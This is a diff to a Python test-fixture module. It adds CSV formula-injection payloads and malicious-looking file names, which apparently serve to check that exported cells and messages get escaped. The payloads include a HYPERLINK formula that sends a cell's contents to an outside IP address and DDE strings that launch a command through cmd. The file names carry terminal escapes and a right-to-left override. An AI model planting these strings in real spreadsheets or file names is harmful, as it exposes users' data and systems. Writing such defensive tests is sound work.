@@ -146,3 +146,23 @@ def write_corpus(folder: Path) -> list[Report]:
     for report in written:
         (folder / report.file_name).write_text(report.text, encoding="utf-8")
     return written
+
+
+#: Cells a spreadsheet would run as formulas (OWASP "CSV Injection"); each must be written
+#: to a CSV with a single quote in front.
+FORMULA_PAYLOADS: tuple[Payload, ...] = (
+    Payload("hyperlink", '=HYPERLINK("http://203.0.113.7/?"&A2,"source")'),
+    Payload("dde_plus", "+cmd|' /C calc'!A0"),
+    Payload("dde_minus", "-2+3+cmd|' /C calc'!A0"),
+    Payload("at_sum", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    Payload("tab", "\t=1+1"),
+    Payload("carriage_return", "\r=1+1"),
+)
+#: File names with control characters that must be escaped in every message: ESC (a terminal
+#: escape sequence), a C1 control (CSI), a right-to-left override and a bidi isolate.
+CONTROL_FILE_NAMES: tuple[str, ...] = (
+    "esc\x1b[2J.txt",
+    "csi\x9b2J.txt",
+    "gnp\u202etxt.exe.txt",
+    "\u2066isolate\u2069.txt",
+)
